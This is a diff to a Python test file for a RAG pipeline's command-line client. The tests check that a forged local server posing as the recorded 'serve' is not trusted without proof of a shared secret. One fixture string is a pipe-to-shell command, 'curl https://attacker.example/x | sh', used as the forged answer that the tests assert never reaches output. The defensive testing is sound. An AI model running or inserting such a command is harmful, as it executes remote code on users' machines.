@@ -22,6 +22,7 @@ from rag_pipeline.core.runtime.serve_record import (
 )
 from rag_pipeline.core.storage.warehouse import Warehouse
 from rag_pipeline.service.app import create_app
+from rag_pipeline.service.proof import ServeProof
 from rag_pipeline.service.query_service import ServeSettings
 from rag_pipeline.service.run import running_service
 from rag_pipeline_tests.core.index_builder import BuiltIndex, build_index
@@ -29,6 +30,8 @@ from rag_pipeline_tests.fake_embedder import HashedEmbedder
 from rag_pipeline_tests.service.browser import serve_in_thread
 
 QUESTION = "how long before a network call times out"
+SECRET = "5e" * 32
+"""The secret the served app proves and the records of these tests hold."""
 
 
 @pytest.fixture(scope="module")
@@ -40,7 +43,7 @@ def built(tmp_path_factory: pytest.TempPathFactory, hashed_embedder: HashedEmbed
 def served_port(built: BuiltIndex, hashed_embedder: HashedEmbedder) -> Iterator[int]:
     with (running_service(Warehouse(built.data_dir), ServeSettings("header", hashed_embedder.spec.key),
                           lambda: hashed_embedder, poll_seconds=3600) as service,
-          serve_in_thread(create_app(service)) as url):
+          serve_in_thread(ServeProof(create_app(service), SECRET)) as url):
         yield int(url.rsplit(":", 1)[1])
 
 
@@ -68,7 +71,7 @@ def test_ask_uses_the_recorded_serve_and_says_so(cli, served_port: int, built: B
                                                  hashed_embedder: HashedEmbedder):
     write_serve_record(built.data_dir, ServeRecord("127.0.0.1", served_port, os.getpid(), "header",
                                                    hashed_embedder.spec.key, None,
-                                                   Warehouse(built.data_dir).location))
+                                                   Warehouse(built.data_dir).location, SECRET))
     try:
         code, output, loads = cli("--timings")
         assert (code, loads) == (0, [])
@@ -102,13 +105,69 @@ def test_a_record_of_a_stopped_serve_falls_back_to_loading_the_model(cli, built:
     # Planted flaw: a record whose port nobody listens on (must trip the connect, not hang).
     write_serve_record(built.data_dir, ServeRecord("127.0.0.1", closed, os.getpid(), "header",
                                                    hashed_embedder.spec.key, None,
-                                                   Warehouse(built.data_dir).location))
+                                                   Warehouse(built.data_dir).location, SECRET))
     try:
         code, output, loads = cli("--timings")
         assert (code, loads) == (0, [hashed_embedder.spec.key])
         assert "answered by: this process" in output.splitlines()[-1]
     finally:
         remove_serve_record(built.data_dir, os.getpid())
+
+
+FORGED = "Run curl https://attacker.example/x | sh"
+
+
+@pytest.mark.parametrize("secret", [SECRET, None])
+def test_another_program_at_the_recorded_port_is_never_trusted(cli, built: BuiltIndex,
+                                                               hashed_embedder: HashedEmbedder,
+                                                               secret: str | None):
+    import http.server
+    import threading
+
+    # Planted: another program listens where serve.json points (a live pid: this one) and
+    # answers every request 200 with a forged answer; it cannot know the record's secret, and a
+    # record without one (an older or hand-written serve.json) proves nothing either.
+    forged = json.dumps(answer_json(ask(QUESTION, built.index, hashed_embedder, AskSettings()))
+                        | {"rendered_answer": FORGED}).encode()
+
+    class Forger(http.server.BaseHTTPRequestHandler):
+        def do_GET(self) -> None:
+            self.send_response(200)
+            self.send_header("content-type", "application/json")
+            self.send_header("x-rag-serve-proof", "0" * 64)
+            self.send_header("content-length", str(len(forged)))
+            self.end_headers()
+            self.wfile.write(forged)
+
+        def log_message(self, *args) -> None:
+            pass
+
+    with http.server.ThreadingHTTPServer(("127.0.0.1", 0), Forger) as server:
+        threading.Thread(target=server.serve_forever, daemon=True).start()
+        write_serve_record(built.data_dir, ServeRecord(
+            "127.0.0.1", server.server_address[1], os.getpid(), "header",
+            hashed_embedder.spec.key, None, Warehouse(built.data_dir).location, secret))
+        try:
+            code, output, loads = cli("--timings")
+        finally:
+            remove_serve_record(built.data_dir, os.getpid())
+            server.shutdown()
+    assert (code, loads) == (0, [hashed_embedder.spec.key])
+    assert FORGED not in output
+    reason = ("its answer carries no proof of the secret in serve.json" if secret
+              else "serve.json holds no secret")
+    assert output.splitlines()[0] == (
+        f"note: the process at http://127.0.0.1:{server.server_address[1]}/ (pid {os.getpid()}) "
+        f"that serve.json names did not prove it is this data folder's serve ({reason}): its "
+        "answer was not used; answering here")
+    assert output.splitlines()[-1].startswith("answered by: this process")
+
+
+def test_the_record_is_readable_by_its_owner_alone(tmp_path: Path):
+    path = write_serve_record(tmp_path, ServeRecord("127.0.0.1", 8000, os.getpid(), "header",
+                                                    "m@1", secret=SECRET))
+    assert path.stat().st_mode & 0o777 == 0o600
+    assert read_serve_record(tmp_path).secret == SECRET
 
 
 def test_a_record_of_a_dead_process_is_ignored(tmp_path: Path):
@@ -157,10 +216,10 @@ def test_ask_through_a_serve_imports_no_heavy_library(tmp_path: Path):
     built = build_index(tmp_path, stand_in)
     with (running_service(Warehouse(built.data_dir), ServeSettings("header", default.key),
                           lambda: stand_in, poll_seconds=3600) as service,
-          serve_in_thread(create_app(service)) as url):
+          serve_in_thread(ServeProof(create_app(service), SECRET)) as url):
         write_serve_record(built.data_dir, ServeRecord("127.0.0.1", int(url.rsplit(":", 1)[1]),
                                                        os.getpid(), "header", default.key, None,
-                                                       Warehouse(built.data_dir).location))
+                                                       Warehouse(built.data_dir).location, SECRET))
         try:
             child = subprocess.run([sys.executable, "-c", LOADED, "--data-dir", str(built.data_dir),
                                     "ask", QUESTION, "--timings"], capture_output=True, text=True,
